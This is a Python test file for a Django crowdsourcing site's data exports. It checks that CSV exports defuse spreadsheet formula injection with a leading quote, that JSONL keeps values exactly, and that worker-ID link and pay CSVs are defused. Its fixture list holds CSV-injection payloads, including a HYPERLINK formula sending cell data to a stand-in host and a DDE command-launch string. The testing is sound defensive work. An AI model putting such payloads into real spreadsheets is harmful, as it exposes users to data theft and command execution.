"""CSV cells a spreadsheet would run as a formula are neutralised with a leading ' (OWASP CSV injection); JSONL
keeps every value exactly; the pay report and the worker-links CSV are neutralised the same way."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from crowd import links
from dynabench_site.csvsafe import neutralise
from exports import splits
from exports.formats import FORMATS
from exports.streaming import stream_records
from tests.exports.conftest import make_example
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR"]


def exported(round_, fmt: str) -> str:
    splits.assign_splits(round_)
    return b"".join(stream_records(round_.task, splits.usable(round_), FORMATS[fmt])).decode()


def test_csv_cells_starting_with_a_formula_are_neutralised(open_round):
    """A task whose labels start like formulas, and writers whose text does: no cell runs in a spreadsheet."""
    task = open_round.task
    task.kind, task.config = "classification", {"labels": FORMULAS}
    task.save()
    for text in FORMULAS:
        make_example(open_round, input={"text": text}, target=text)
    rows = list(csv.DictReader(io.StringIO(exported(open_round, "csv"), newline="")))
    assert sorted(r["target"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert all(not r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    # The writer's text sits in the input object: JSON text that starts with {, kept as it is.
    assert sorted(json.loads(r["input"])["text"] for r in rows) == sorted(FORMULAS)


def test_jsonl_keeps_formula_like_text_exactly(open_round):
    make_example(open_round, input={"text": FORMULAS[0]})
    records = [json.loads(line) for line in exported(open_round, "jsonl").splitlines()]
    assert [r["input"]["text"] for r in records] == [FORMULAS[0]]


def test_only_text_that_starts_like_a_formula_gets_a_leading_quote():
    assert [neutralise(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [neutralise(v) for v in ("-0.5", "+3", "1e-3", "plain", "a=b", "", None, 7, -2.5)] == \
        ["-0.5", "+3", "1e-3", "plain", "a=b", "", None, 7, -2.5]


def test_worker_ids_in_the_links_and_pay_csv_are_neutralised(open_round):
    owner = UserFactory(username="payer")
    open_round.task.owners.add(owner)
    batch = links.create_batch(open_round.task, owner, name="wave", source="prolific", hours=48, examples_required=1,
                               workers="-cmd,A1\n-7,A3")
    client = Client()
    client.force_login(owner)
    for path in (f"/console/batches/{batch.pk}/links.csv", f"/console/batches/{batch.pk}/pay.csv"):
        rows = list(csv.reader(io.StringIO(client.get(path).content.decode())))
        assert sorted(r[0] for r in rows[1:]) == ["'-cmd", "-7"], path
